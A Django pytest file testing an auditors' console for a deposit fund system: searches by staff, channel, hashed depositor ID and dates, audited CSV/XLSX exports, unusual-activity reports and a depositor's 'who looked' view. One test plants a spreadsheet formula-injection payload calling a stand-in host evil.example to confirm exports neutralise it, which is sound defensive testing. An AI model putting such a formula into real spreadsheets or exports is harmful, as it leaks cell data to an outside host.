"""The auditors' console: search by depositor (ID number hashed, never shown), staff member,
channel, action and dates; exports that are themselves audited; the unusual-patterns report;
"who looked at my account" for the depositor; and everyone but the auditor refused."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from django.core.cache import cache
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from hpf.audit.models import AuditEvent
from hpf.audit.services import Actor
from hpf.common.clock import frozen_clock
from hpf.conftest import verified_client
from hpf.ledger.selectors import account_overview
from hpf.oversight.selectors import (
    AuditorOnly,
    AuditQuery,
    account_readers,
    audit_search,
    unusual_patterns,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def auditor(make_staff):
    return make_staff("auditor", "audit_a", hall=None)


@pytest.fixture
def sysadmin(make_staff):
    return make_staff("sysadmin", "root_admin", hall=None)


@pytest.fixture
def reads(owner, other, clerk, idcheck):
    """The clerk reads the owner at the counter (in a session) and the other account from the
    back office; the owner reads their own account on the web."""
    session = idcheck(clerk, 1)
    counter = Actor(f"staff:{clerk.user_id}", "counter", None, session.public_id)
    account_overview(actor=counter, account_id=owner.pk, purpose="柜台查询")
    back = Actor(f"staff:{clerk.user_id}", "backoffice")
    account_overview(actor=back, account_id=other.pk, purpose="后台核查")
    account_overview(actor=Actor(f"depositor:{owner.depositor_id}", "web"), account_id=owner.pk)
    return session


def test_search_by_staff_member_and_channel(auditor, clerk, other, reads):
    found = audit_search(auditor, AuditQuery(staff=clerk.staff_no, channel="backoffice"))
    assert [(e.action, e.subject_account_id) for e in found] == [("account.read", other.pk)]
    by_name = audit_search(auditor, AuditQuery(staff="clerk_a", action="account.read"))
    assert {e.channel for e in by_name} == {"counter", "backoffice"}
    assert not audit_search(auditor, AuditQuery(staff="nobody")).exists()


def test_search_by_depositor_id_number(auditor, owner, other, person, reads):
    found = audit_search(auditor, AuditQuery(id_number=person(1)["id_number"]))
    assert found.exists()
    assert {e.subject_account_id for e in found} <= {owner.pk, None}
    assert other.pk not in {e.subject_account_id for e in found}


def test_search_by_date_range(auditor, reads):
    assert audit_search(auditor, AuditQuery(date_from=dt.date(2026, 11, 15))).exists()
    assert not audit_search(auditor, AuditQuery(date_to=dt.date(2026, 11, 14))).exists()


def test_the_page_finds_reads_and_never_shows_the_id_number(auditor, clerk, person, reads):
    http = verified_client(auditor)
    page = http.get(reverse("auditor:search"), {"staff": clerk.staff_no, "channel": "backoffice"})
    assert page.status_code == 200 and "后台核查" in page.content.decode()
    number = person(1)["id_number"]
    by_id = http.post(reverse("auditor:search"), {"id_number": number}, follow=True)
    assert number not in by_id.redirect_chain[-1][0]
    body = by_id.content.decode()
    assert by_id.status_code == 200 and "柜台查询" in body and number not in body
    assert not AuditEvent.objects.filter(details__icontains=number[-8:]).exists()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_is_itself_audited(auditor, clerk, person, reads, fmt):
    http = verified_client(auditor)
    found = http.post(
        reverse("auditor:search"),
        {"id_number": person(1)["id_number"], "staff": clerk.staff_no},
        follow=True,
    )
    query = found.redirect_chain[-1][0].split("?", 1)[1]
    response = http.post(f"{reverse('auditor:export', kwargs={'fmt': fmt})}?{query}")
    assert response.status_code == 200
    if fmt == "csv":
        text = response.content.decode("utf-8-sig")
        assert text.startswith("序号,时间") and "柜台查询" in text
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert sheet is not None and sheet.cell(1, 1).value == "序号"
    event = AuditEvent.objects.latest("id")
    assert event.action == "audit.export" and event.actor == f"staff:{auditor.user_id}"
    assert event.details["format"] == fmt and event.details["depositor"] == "yes"
    assert event.details["staff"] == clerk.staff_no and event.details["rows"] >= 1
    assert person(1)["id_number"] not in str(event.details)


@pytest.mark.parametrize("role", ["sysadmin", "clerk", "supervisor"])
def test_everyone_but_the_auditor_is_refused(role, make_staff, reads):
    member = make_staff(role, hall=None if role == "sysadmin" else "default")
    http = verified_client(member)
    before = AuditEvent.objects.count()
    assert http.get(reverse("auditor:search")).status_code == 403
    assert http.get(reverse("auditor:patterns")).status_code == 403
    assert http.post(reverse("auditor:export", kwargs={"fmt": "csv"})).status_code == 403
    assert AuditEvent.objects.count() == before
    with pytest.raises(AuditorOnly):
        audit_search(member, AuditQuery())


def test_anonymous_goes_to_the_login():
    for name in ("auditor:search", "auditor:patterns"):
        response = Client().get(reverse(name))
        assert response.status_code == 302 and "/staff/login/" in response["Location"]


def test_unusual_patterns(auditor, clerk, owner, other, make_employer, open_account, idcheck):
    back = Actor(f"staff:{clerk.user_id}", "backoffice")
    with frozen_clock(dt.datetime(2026, 11, 16, 10, 0)):  # Monday morning
        for account in (owner, other):
            account_overview(actor=back, account_id=account.pk, purpose="后台")
    with frozen_clock(dt.datetime(2026, 11, 16, 22, 30)):  # Monday night
        account_overview(actor=back, account_id=owner.pk, purpose="夜间")
    report = unusual_patterns(
        auditor, since=dt.date(2026, 11, 16), until=dt.date(2026, 11, 16), distinct_accounts=2
    )
    assert report.backoffice_reads == [(f"staff:{clerk.user_id}", 2)]
    assert report.after_hours_reads == [(f"staff:{clerk.user_id}", 1)]
    page = verified_client(auditor).get(
        reverse("auditor:patterns"), {"from": "2026-11-16", "to": "2026-11-16"}
    )
    body = page.content.decode()
    assert page.status_code == 200 and f"staff:{clerk.user_id}" not in body
    assert f"{clerk.display_name}（柜员 · 工号 {clerk.staff_no}）" in body


def test_failed_idchecks_and_verification_guessing(auditor, clerk, idcheck, client):
    from hpf.registry.idcheck import idcheck_open

    actor = Actor(f"staff:{clerk.user_id}", "counter")
    for _ in range(5):
        with pytest.raises(Exception):  # noqa: B017 (the no-match error; recorded anyway)
            idcheck_open(
                member=clerk,
                id_number="11010519491231002X",
                name="无此人",
                person_matches_card=True,
                purpose="ENQUIRY",
                actor=actor,
            )
    cache.clear()
    for n in range(10):
        client.get(f"/verify/KM2026111500{n:04d}?c=ABCDEFGHJK")
    cache.clear()  # leave no throttle behind for later tests from the same address
    report = unusual_patterns(auditor, since=dt.date(2026, 11, 15), until=dt.date(2026, 11, 15))
    assert report.failed_idchecks == [(f"staff:{clerk.user_id}", 5)]
    assert report.verify_guessing and report.verify_guessing[0][1] >= 10


def test_the_depositor_sees_who_looked(owner, other, clerk, reads):
    me = Actor(f"depositor:{owner.depositor_id}", "web")
    readers = account_readers(me, owner.pk)
    who = {(r.channel, r.who) for r in readers}
    assert ("counter", f"柜员（工号 {clerk.staff_no}）") in who
    assert ("web", "本人") in who
    counter = next(r for r in readers if r.channel == "counter")
    assert counter.hall == "五华管理部" and counter.idcheck_session == reads.pk
    from hpf.common.errors import NotFound

    with pytest.raises(NotFound):
        account_readers(me, other.pk)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_formula_in_a_certificate_purpose_is_inert_in_the_export(auditor, owner, fmt):
    """Formula injection (issue 11, item 12): a depositor types ``=HYPERLINK(...)`` as the
    purpose of a certificate; in the auditors' export it is text, not a live formula."""
    from hpf.certificates.services import certificate_issue

    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    certificate_issue(
        Actor(f"depositor:{owner.depositor_id}", "web"),
        account_id=owner.pk,
        kind="DEPOSIT",
        purpose=evil,
        hall="网上业务大厅",
    )
    http = verified_client(auditor)
    response = http.post(f"{reverse('auditor:export', kwargs={'fmt': fmt})}")
    assert response.status_code == 200
    if fmt == "csv":
        import csv as csv_module

        rows = list(csv_module.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        cells: list[object] = [c for row in rows for c in row]
    else:
        book = load_workbook(io.BytesIO(response.content))
        sheet = book.active
        assert sheet is not None
        cells = [c.value for row in sheet.iter_rows() for c in row]
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert "'" + evil in cells
    assert not any(isinstance(c, str) and c.startswith(("=", "+", "@")) for c in cells)


def test_the_auditors_own_searches_and_reports_are_on_the_trail(auditor, clerk, person, reads):
    """Issue 11, item 14: an auditor's search (even by ID number) and the patterns report leave
    audit events naming the auditor and the filters, never the ID number."""
    http = verified_client(auditor)
    before = AuditEvent.objects.count()
    response = http.post(
        reverse("auditor:search"),
        {"id_number": person(1)["id_number"], "staff": clerk.staff_no},
        follow=True,
    )
    assert response.status_code == 200
    search = AuditEvent.objects.get(action="audit.search")
    assert search.actor == f"staff:{auditor.user_id}"
    assert search.details["staff"] == clerk.staff_no and search.details["depositor"] == "yes"
    assert person(1)["id_number"] not in str(search.details)
    assert http.get(reverse("auditor:patterns")).status_code == 200
    assert AuditEvent.objects.filter(action="audit.patterns", actor=search.actor).exists()
    assert AuditEvent.objects.count() == before + 2
